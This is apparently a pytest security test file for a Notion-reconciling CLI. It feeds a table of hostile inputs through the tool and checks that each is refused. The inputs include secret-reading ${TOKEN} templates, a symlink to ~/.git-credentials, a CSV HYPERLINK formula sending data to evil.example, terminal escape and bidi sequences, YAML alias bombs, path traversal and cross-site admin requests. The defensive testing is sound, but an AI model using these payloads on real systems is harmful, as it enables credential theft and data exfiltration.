"""The hostile-input matrix of issue 14: each attack, with the issue's exact input, through the real
CLI in a cage (``conftest.run_caged``), and what must hold afterwards.

One row (``Attack``) per attack: the issue's item number, how the repository (and its --local
workspace, or a hostile Notion on loopback) is set up, the command and its environment, whether
stdout is a terminal, and the checks on the run and on the files it left. ``ATTACKS`` is the
whole table: add a row for a new attack, with ``expect`` built from the small checks below or a
function of its own. Item 13 attacks the emulator's admin API, not a command: its requests
are the table ``ADMIN_ATTACKS`` at the end.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import os
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest
import yaml

from reconciler.emulator import Emulator
from reconciler.manifest import load_desired_state
from reconciler.plan import ChangeClass, UpdateProperty, checksum, class_of, dump_plan, parse_plan
from tests.cli.test_import_export_doctor import LocalNotion, text
from tests.conftest import INTEGRATION, ROOT_PAGE_ID, tcp_client
from tests.conftest import TOKEN as TEST_TOKEN
from tests.hostile.conftest import (
    CagedRun,
    HostileRepository,
    one_string_aliased_by_500_rows,
    run_caged,
    run_caged_on_terminal,
)
from tests.hostile.notion import hostile_notion_server

TOKEN = "ntn_matrixIntegrationToken0123456789"
GITHUB_TOKEN = "ghs_matrixRunnerToken0123456789"
SECRETS = {"NOTION_TOKEN": TOKEN, "GITHUB_TOKEN": GITHUB_TOKEN}
CREDENTIALS = "https://ada:ghp_matrixCredential0123456789@github.com\n"
OSC = "\x1b]0;owned\x07"
TASKS = "database: tasks\ntitle: {title}\nproperties:\n  Name: title\n  Notes: rich_text\n"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "first half\rsecond half",
]


@dataclass(frozen=True)
class Stage:
    """What an attack is set up in: the repository, and a hostile Notion on loopback."""

    repo: HostileRepository
    hostile_notion: str


@dataclass(frozen=True)
class Attack:
    """One row of the matrix. ``prepare`` writes the repository and returns more arguments for
    the command (a database id it created, say); ``expect`` checks the run and the files."""

    item: int
    name: str
    prepare: Callable[[Stage], Sequence[str]]
    command: tuple[str, ...]
    expect: Callable[[Stage, CagedRun], None]
    env: Mapping[str, str] = field(default_factory=dict)
    on_terminal: bool = False


# --- checks -----------------------------------------------------------------------------------


def refused(*says: str, at: str = "") -> Callable[[Stage, CagedRun], None]:
    """Exit 1, each text said, ``at`` (file:line) named, no traceback, no secret value."""

    def check(_stage: Stage, run: CagedRun) -> None:
        assert run.exit_code == 1, run.output[-2000:]
        for text_said in says:
            assert text_said in run.output, run.output[-2000:]
        assert at in run.output
        assert "Traceback" not in run.output
        no_secret_shown(run)

    return check


def no_secret_shown(run: CagedRun) -> None:
    for value in (TOKEN, GITHUB_TOKEN, "ghp_matrixCredential"):
        assert value not in run.output


def both(*checks: Callable[[Stage, CagedRun], None]) -> Callable[[Stage, CagedRun], None]:
    def check(stage: Stage, run: CagedRun) -> None:
        for each in checks:
            each(stage, run)

    return check


def no_file(relative: str) -> Callable[[Stage, CagedRun], None]:
    def check(stage: Stage, _run: CagedRun) -> None:
        assert not (stage.repo.root / relative).exists(), relative

    return check


# --- set-ups ----------------------------------------------------------------------------------


def manifest(text_: str, config: str = "") -> Callable[[Stage], Sequence[str]]:
    def prepare(stage: Stage) -> Sequence[str]:
        stage.repo.manifest(text_)
        if config:
            stage.repo.write("reconciler.yaml", config)
        return ()

    return prepare


def _workspace(stage: Stage) -> LocalNotion:
    return LocalNotion(stage.repo.root)


def _titled_database(title: str) -> Callable[[Stage], Sequence[str]]:
    def prepare(stage: Stage) -> Sequence[str]:
        notion = _workspace(stage)
        database, _ = notion.database(title, {"Name": {"title": {}}})
        notion.close()
        (stage.repo.root / "manifests").rmdir()  # import writes the folder
        return (database,)

    return prepare


def _linked_credentials(stage: Stage) -> Sequence[str]:
    stage.repo.manifest(TASKS.format(title="Tasks"))
    credentials = stage.repo.outside / ".git-credentials"
    credentials.write_text(CREDENTIALS, encoding="utf-8")
    os.symlink(credentials, stage.repo.root / "manifests" / "a.yaml")
    return ()


def _formula_rows(stage: Stage) -> Sequence[str]:
    """A live database of formula-led notes and a negative score, and its manifest."""
    notion = _workspace(stage)
    database, source = notion.database(
        "Formulas", {"Name": {"title": {}}, "Notes": {"rich_text": {}}, "Score": {"number": {}}}
    )
    for number, notes in enumerate(FORMULAS, start=1):
        notion.row(
            source,
            {
                "Name": {"title": text(f"row {number}")},
                "Notes": {"rich_text": text(notes)},
                "Score": {"number": -2 if number == 1 else number},
            },
        )
    notion.close()
    stage.repo.manifest(
        f"database: formulas\nid: {database}\ntitle: Formulas\n"
        "properties: {Name: title, Notes: rich_text, Score: number}\n",
        name="formulas.yaml",
    )
    return ()


def _escapes_in_notes(stage: Stage) -> Sequence[str]:
    """A live row whose notes carry OSC, CSI and a direction override, and its manifest."""
    notion = _workspace(stage)
    database, source = notion.database("Notes", {"Name": {"title": {}}, "Notes": {"rich_text": {}}})
    notion.row(
        source,
        {
            "Name": {"title": text("a")},
            "Notes": {"rich_text": text(f"{OSC}note\x1b[2J\u202efdp.exe")},
        },
    )
    notion.close()
    stage.repo.manifest(
        f"database: notes\nid: {database}\ntitle: Notes\n"
        "properties: {Name: title, Notes: rich_text}\n"
    )
    return ()


def _pinned_at_hostile_notion(stage: Stage) -> Sequence[str]:
    stage.repo.manifest(TASKS.format(title="Tasks") + "id: 1429989fe8ac4effbc8f57f56486db54\n")
    return ()


def _aliased_rows(stage: Stage) -> Sequence[str]:
    stage.repo.manifest(one_string_aliased_by_500_rows())
    return ()


def _emoji_rows(stage: Stage) -> Sequence[str]:
    rows = "".join(f'  - {{Name: "row {n}", Notes: "{"🚀" * 60}"}}\n' for n in range(1500))
    stage.repo.manifest(TASKS.format(title="Tasks") + "rows:\n" + rows)
    return ()


def _notes_kept_live(stage: Stage) -> str:
    """A live row whose notes the manifest clears (a lossy change), and the manifest."""
    notion = _workspace(stage)
    database, source = notion.database("Notes", {"Name": {"title": {}}, "Notes": {"rich_text": {}}})
    notion.row(source, {"Name": {"title": text("a")}, "Notes": {"rich_text": text("keep me")}})
    notion.close()
    stage.repo.manifest(
        f"database: notes\nid: {database}\ntitle: Notes\n"
        "properties: {Name: title, Notes: rich_text}\nrows:\n  - {Name: a}\n"
    )
    return source


def _class_lowered_and_checksum_redone(stage: Stage) -> Sequence[str]:
    """Issue 14 item 4 step by step: plan -o plan.json, edit the lossy change's class to safe,
    recompute the sha256 checksum over the edited content."""
    _notes_kept_live(stage)
    planned = run_caged(stage.repo.root, "plan", "--local", "-o", "plan.json")
    assert planned.exit_code == 0, planned.output[-2000:]
    path = stage.repo.root / "plan.json"
    plan = parse_plan(path.read_text(encoding="utf-8"))
    (db,) = plan.databases
    (lossy,) = db.changes
    assert lossy.change_class is ChangeClass.LOSSY
    sneaky = dataclasses.replace(lossy, change_class=ChangeClass.SAFE)
    edited = dataclasses.replace(plan, databases=(dataclasses.replace(db, changes=(sneaky,)),))
    path.write_text(dump_plan(dataclasses.replace(edited, checksum=checksum(edited))), "utf-8")
    return ("plan.json",)


def _notes_still_there(stage: Stage, _run: CagedRun) -> None:
    notion = _workspace(stage)
    try:
        (database,) = notion.api.search(filter={"value": "data_source", "property": "object"})[
            "results"
        ]
        (row,) = notion.api.data_sources.query(database["id"])["results"]
        notes = row["properties"]["Notes"]["rich_text"]
    finally:
        notion.close()
    assert [run["plain_text"] for run in notes] == ["keep me"]


def _relation_to_alpha(stage: Stage) -> str:
    """A Links database whose Link relates to Alpha, a manifest pointing it at Beta instead (a
    lossy reconfiguration: every value of Link would be lost); Alpha's data source."""
    notion = _workspace(stage)
    _, alpha = notion.database("Alpha", {"Name": {"title": {}}})
    _, beta = notion.database("Beta", {"Name": {"title": {}}})
    relation = {"data_source_id": alpha, "type": "single_property", "single_property": {}}
    links, _ = notion.database("Links", {"Name": {"title": {}}, "Link": {"relation": relation}})
    notion.close()
    stage.repo.manifest(
        f"database: links\nid: {links}\ntitle: Links\nproperties:\n  Name: title\n"
        f"  Link: {{type: relation, database: {beta}}}\n"
    )
    return alpha


def _reconfiguration_disguised_and_checksum_redone(stage: Stage) -> Sequence[str]:
    """plan -o plan.json; edit the lossy update's prior (the relation as live) to the target
    it is pointed at, so that it judges safe, mark it safe, recompute the sha256 checksum."""
    _relation_to_alpha(stage)
    planned = run_caged(stage.repo.root, "plan", "--local", "-o", "plan.json")
    assert planned.exit_code == 0, planned.output[-2000:]
    path = stage.repo.root / "plan.json"
    plan = parse_plan(path.read_text(encoding="utf-8"))
    (db,) = plan.databases
    (lossy,) = db.changes
    assert isinstance(lossy.payload, UpdateProperty)
    assert lossy.change_class is ChangeClass.LOSSY
    seen = lossy.payload.live
    disguised = dataclasses.replace(seen, config={**seen.config, **lossy.payload.desired.config})
    payload = dataclasses.replace(lossy.payload, live=disguised)
    assert class_of(payload) is ChangeClass.SAFE
    sneaky = dataclasses.replace(lossy, payload=payload, change_class=ChangeClass.SAFE)
    edited = dataclasses.replace(plan, databases=(dataclasses.replace(db, changes=(sneaky,)),))
    path.write_text(dump_plan(dataclasses.replace(edited, checksum=checksum(edited))), "utf-8")
    return ("plan.json",)


def _stale_and_still_related_to_alpha(stage: Stage, run: CagedRun) -> None:
    assert run.exit_code == 4, run.output[-2000:]
    assert "links/Link (property " in run.output
    assert "Link's configuration changed in Notion since the plan" in run.output
    assert "Traceback" not in run.output
    notion = _workspace(stage)
    try:
        (links,) = [
            found
            for found in notion.api.search(filter={"value": "data_source", "property": "object"})[
                "results"
            ]
            if "Link" in found["properties"]
        ]
        target = links["properties"]["Link"]["relation"]["data_source_id"]
        (alpha,) = [
            found["id"]
            for found in notion.api.search(query="Alpha")["results"]
            if found["object"] == "data_source"
        ]
    finally:
        notion.close()
    assert target == alpha


PEOPLE = (
    "database: people\ntitle: People\nkey: Email\nproperties:\n  Name: title\n  Email: email\n"
    "  Phone: {type: phone_number, sensitive: true}\nrows:\n"
    '  - {Name: Ada Lovelace, Email: ada@example.com, Phone: "PHONE"}\n'
)
OLD_PHONE, NEW_PHONE = "+44 20 7946 0001", "+44 20 7946 0999"


def _phone_changed(stage: Stage) -> Sequence[str]:
    """Issue 14 item 2 step by step: Ada's phone applied, then changed in the manifest."""
    stage.repo.manifest(PEOPLE.replace("PHONE", OLD_PHONE), name="people.yaml")
    applied = run_caged(stage.repo.root, "apply", "--local", "--yes")
    assert applied.exit_code == 0, applied.output[-2000:]
    stage.repo.manifest(PEOPLE.replace("PHONE", NEW_PHONE), name="people.yaml")
    return ()


def _no_phone_anywhere(stage: Stage, run: CagedRun) -> None:
    assert run.exit_code == 0, run.output[-2000:]
    written = [p for p in stage.repo.root.rglob("*") if p.is_file() and p.suffix != ".sqlite"]
    held = [
        str(path.relative_to(stage.repo.root))
        for path in written
        if "manifests" not in path.parts
        and any(phone.encode() in path.read_bytes() for phone in (OLD_PHONE, NEW_PHONE))
    ]
    assert held == []
    assert (OLD_PHONE in run.output, NEW_PHONE in run.output) == (False, False)


CONFIDANTS = (
    "database: people\ntitle: People\nkey: Email\nproperties:\n  Name: title\n  Email: email\n"
    "  Confidant: {type: people, sensitive: true}\nrows:\n"
    "  - {Name: Ada Lovelace, Email: ada@example.com, Confidant: [PERSON]}\n"
)
CONFIDANT_NAMES = ("grace@example.com", "Grace Hopper", "alan@example.com", "Alan Turing")


def _confidant_changed(stage: Stage) -> Sequence[str]:
    """Ada's confidant (a sensitive people value) applied as Grace, then changed to Alan."""
    stage.repo.manifest(CONFIDANTS.replace("PERSON", "grace@example.com"), name="people.yaml")
    applied = run_caged(stage.repo.root, "apply", "--local", "--yes")
    assert applied.exit_code == 0, applied.output[-2000:]
    stage.repo.manifest(CONFIDANTS.replace("PERSON", "alan@example.com"), name="people.yaml")
    return ()


def _no_confidant_anywhere(stage: Stage, run: CagedRun) -> None:
    """No file but the manifests, and no output, names Grace or Alan; the plan file applies."""
    assert run.exit_code == 0, run.output[-2000:]
    written = [p for p in stage.repo.root.rglob("*") if p.is_file() and p.suffix != ".sqlite"]
    held = [
        str(path.relative_to(stage.repo.root))
        for path in written
        if "manifests" not in path.parts
        and any(name.encode() in path.read_bytes() for name in CONFIDANT_NAMES)
    ]
    assert held == []
    assert [name for name in CONFIDANT_NAMES if name in run.output] == []
    applied = run_caged(stage.repo.root, "apply", "--local", "--yes", "pp.json")
    assert applied.exit_code == 0, applied.output[-2000:]


# --- what must hold ---------------------------------------------------------------------------


def _imported_inertly(stage: Stage, run: CagedRun) -> None:
    assert run.exit_code == 0, run.output[-2000:]
    (written,) = (stage.repo.root / "manifests").iterdir()
    assert "prune_properties" not in yaml.safe_load(written.read_text(encoding="utf-8"))
    (database,) = load_desired_state([str(written)]).databases
    assert database.prune_properties is False


def _cells_neutralised(stage: Stage, run: CagedRun) -> None:
    assert run.exit_code == 0, run.output[-2000:]
    raw = (stage.repo.root / "out" / "formulas.csv").read_text(encoding="utf-8")
    records = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert len(records) == len(FORMULAS)
    notes = [record["Notes"] for record in records]
    assert [cell for cell in notes if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert records[0]["Score"] == "-2"


def _escapes_shown(_stage: Stage, run: CagedRun) -> None:
    assert run.exit_code == 0, run.output[-2000:]
    assert "\x1b" not in run.stdout
    assert "\u202e" not in run.stdout
    assert "\\x1b]0;owned\\x07note\\x1b[2J\\u202efdp.exe" in run.stdout


def _no_raw_controls_in_markdown(_stage: Stage, run: CagedRun) -> None:
    assert run.exit_code == 0, run.output[-2000:]
    assert [c for c in run.stdout if c in "\x1b\x07\u202e\u2066\u200b\u2028"] == []


def _comment_within_bytes(_stage: Stage, run: CagedRun) -> None:
    assert run.exit_code == 0, run.output[-2000:]
    assert len(run.stdout.encode("utf-8")) <= 65_000
    assert "this comment is limited to 65,000 bytes" in run.stdout


def _nothing_outside(stage: Stage, run: CagedRun) -> None:
    refused("state_dir '../../elsewhere' leads out of the repository", at="reconciler.yaml:2")(
        stage, run
    )
    assert not (stage.repo.root.parent.parent / "elsewhere").exists()


ATTACKS: list[Attack] = [
    # --- 1: ${VAR} and secrets
    Attack(
        1,
        "a title reading the token",
        manifest(TASKS.format(title='"Leak ${NOTION_TOKEN}"')),
        ("plan", "--local", "--format", "markdown"),
        refused("NOTION_TOKEN looks like a secret", at="manifests/tasks.yaml:2"),
        env=SECRETS,
    ),
    Attack(
        1,
        "a row reading GITHUB_TOKEN with a default",
        manifest(
            TASKS.format(title="Tasks") + 'rows:\n  - {Name: a, Notes: "${GITHUB_TOKEN:-none}"}\n'
        ),
        ("plan", "--local", "-o", "plan.json"),
        both(refused("GITHUB_TOKEN looks like a secret"), no_file("plan.json")),
        env=SECRETS,
    ),
    Attack(
        1,
        "an id reading the token",
        manifest(TASKS.format(title="Tasks") + "id: ${NOTION_TOKEN}\n"),
        ("validate",),
        refused("NOTION_TOKEN looks like a secret", at="manifests/tasks.yaml:6"),
        env=SECRETS,
    ),
    Attack(
        1,
        "a redis_url carrying the token",
        manifest(
            TASKS.format(title="Tasks"),
            config='rate_limit:\n  redis_url: "redis://:${NOTION_TOKEN}@host"\n',
        ),
        ("validate",),
        refused("NOTION_TOKEN looks like a secret", at="reconciler.yaml:2"),
        env=SECRETS,
    ),
    Attack(
        1,
        "a secret's value pasted into a manifest",
        manifest(TASKS.format(title=f"Tasks {GITHUB_TOKEN}")),
        ("plan", "--local", "-o", "plan.json", "--format", "markdown"),
        both(refused("the plan holds the value of GITHUB_TOKEN"), no_file("plan.json")),
        env=SECRETS,
    ),
    # --- 2: sensitive values in files
    Attack(
        2,
        "Ada's phone changed, plan -o pp.json",
        _phone_changed,
        ("plan", "--local", "-o", "pp.json", "--format", "json"),
        _no_phone_anywhere,
    ),
    Attack(
        2,
        "Ada's confidant (sensitive people) changed, plan -o pp.json",
        _confidant_changed,
        ("plan", "--local", "-o", "pp.json", "--format", "json"),
        _no_confidant_anywhere,
    ),
    # --- 4: the class written in a plan file
    Attack(
        4,
        "a lossy change marked safe, the checksum recomputed",
        _class_lowered_and_checksum_redone,
        ("apply", "--local", "--yes"),
        both(
            refused(
                "plan.json was modified after it was written",
                "is marked safe, but what it does is lossy",
            ),
            _notes_still_there,
        ),
    ),
    Attack(
        4,
        "a lossy reconfiguration disguised by an edited prior, the checksum recomputed",
        _reconfiguration_disguised_and_checksum_redone,
        ("apply", "--local", "--yes"),
        _stale_and_still_related_to_alpha,
    ),
    # --- 9: titles that end a YAML line
    *(
        Attack(
            9,
            f"a title with {name} before a manifest key",
            _titled_database(f"Roadmap{breaker}prune_properties: true"),
            ("import", "--local"),
            _imported_inertly,
        )
        for name, breaker in (("U+2028", "\u2028"), ("U+2029", "\u2029"), ("NEL", "\x85"))
    ),
    Attack(
        9,
        "a title with CR before a manifest key",
        _titled_database("Roadmap\rprune_properties: true"),
        ("import", "--local"),
        _imported_inertly,
    ),
    # --- 10: links out of the repository
    Attack(
        10,
        "manifests/a.yaml linked to ~/.git-credentials",
        _linked_credentials,
        ("validate",),
        refused("a link leads this manifest out of the repository", at="manifests/a.yaml"),
    ),
    # --- 11: CSV export
    Attack(
        11,
        "formula-led live text and a CR",
        _formula_rows,
        ("export", "--local", "--format", "csv", "-o", "out"),
        _cells_neutralised,
    ),
    # --- 12: terminal escapes, bidi controls, the comment's size
    Attack(
        12,
        "an error relayed from Notion with OSC sequences",
        _pinned_at_hostile_notion,
        ("plan",),
        both(refused("\\x1b]0;owned\\x07Could not find database"), lambda _s, run: _no_esc(run)),
        env={"NOTION_TOKEN": TOKEN},
    ),
    Attack(
        12,
        "export -o - on a terminal",
        _escapes_in_notes,
        ("export", "--local", "--format", "csv", "-o", "-"),
        _escapes_shown,
        on_terminal=True,
    ),
    Attack(
        12,
        "escapes and bidi controls in a pull-request comment",
        manifest(
            TASKS.format(title="Tasks")
            + 'rows:\n  - {Name: a, Notes: "\\e]0;owned\\a\\e[8m \\u202efdp.exe'
            ' \\u2066x\\u2069 zero\\u200bwidth \\u2028next"}\n'
        ),
        ("plan", "--local", "--format", "markdown"),
        _no_raw_controls_in_markdown,
    ),
    Attack(
        12,
        "a comment of four-byte characters",
        _emoji_rows,
        ("plan", "--local", "--format", "markdown"),
        _comment_within_bytes,
    ),
    # --- 14: aliases that multiply the output
    Attack(
        14,
        "a 195 KB string aliased by 500 rows",
        _aliased_rows,
        ("plan", "--local"),
        both(
            refused(
                "aliases expand to more than 10,000,000 characters in this file",
                at="tasks.yaml:60",
            ),
            lambda _stage, run: _small_output(run),
        ),
    ),
    # --- 15: the state folder
    Attack(
        15,
        "state_dir: ../../elsewhere",
        manifest(
            TASKS.format(title="Tasks"),
            config="manifests: manifests\nstate_dir: ../../elsewhere\n",
        ),
        ("plan", "--local"),
        _nothing_outside,
    ),
]


def _small_output(run: CagedRun) -> None:
    """A refusal, not the 97.5 MB the aliases would expand to."""
    assert len(run.output) < 10_000


def _no_esc(run: CagedRun) -> None:
    assert "\x1b" not in run.output
    assert "\x07" not in run.output


# --- the test -----------------------------------------------------------------------------------


@pytest.fixture
def hostile_notion() -> Iterator[str]:
    """A Notion whose every answer is a 404 with OSC sequences in its message."""
    message = f"{OSC}Could not find database\x1b]8;;https://evil.example\x07"
    with hostile_notion_server(message) as url:
        yield url


@pytest.mark.parametrize(
    "attack", [pytest.param(a, id=f"item {a.item}: {a.name}") for a in ATTACKS]
)
def test_the_attack_is_defeated(
    attack: Attack, hostile_repo: HostileRepository, hostile_notion: str
) -> None:
    """The issue's input, the real CLI, caged: the checks of the row hold."""
    stage = Stage(hostile_repo, hostile_notion)
    extra = attack.prepare(stage)
    env = {"NOTION_BASE_URL": hostile_notion, **attack.env}
    runner = run_caged_on_terminal if attack.on_terminal else run_caged
    run = runner(hostile_repo.root, *attack.command, *extra, env=env)
    attack.expect(stage, run)


# --- item 13: the emulator's admin API, reached from a web page ---------------------------------


@dataclass(frozen=True)
class AdminAttack:
    """A request a browser page could send to ``reconciler emulator serve`` on a persistent store:
    its headers (``{port}`` is the server's), and the status and reason it must get."""

    name: str
    headers: Mapping[str, str]
    status: int
    says: str


ADMIN_ATTACKS = [
    AdminAttack(
        "a cross-site text/plain reset",
        {"Origin": "http://attacker.example", "Content-Type": "text/plain"},
        403,
        "the admin API refuses requests from web pages",
    ),
    AdminAttack(
        "a reset under a rebound host name",
        {"Host": "rebind.attacker.example:{port}", "Content-Type": "application/json"},
        403,
        "refuses Host 'rebind.attacker.example:",
    ),
    AdminAttack(
        "a same-origin reset that is not JSON",
        {"Content-Type": "text/plain"},
        415,
        "the admin API takes JSON bodies only",
    ),
]


@pytest.mark.parametrize(
    "attack", [pytest.param(a, id=f"item 13: {a.name}") for a in ADMIN_ATTACKS]
)
def test_the_admin_attack_is_defeated(attack: AdminAttack, tmp_path: Path) -> None:
    """The emulator on a file store, reached over loopback: the reset is refused with its reason
    and the workspace's pages are all still there."""
    store = tmp_path / "workspace.sqlite"
    emulator = Emulator(str(store), {TEST_TOKEN: INTEGRATION}, rate_limit=None)
    try:
        with emulator.serve() as server:
            client = tcp_client(server.url)
            client.pages.create(
                parent={"page_id": ROOT_PAGE_ID}, properties={"title": text("Keep me")}
            )
            port = server.url.rsplit(":", 1)[1]
            headers = {name: value.format(port=port) for name, value in attack.headers.items()}
            answer = httpx.post(f"{server.url}/_emulator/reset", content=b"{}", headers=headers)
            kept = client.search(query="Keep me")["results"]
    finally:
        emulator.close()
    assert answer.status_code == attack.status
    assert attack.says in answer.json()["error"]
    assert len(kept) == 1
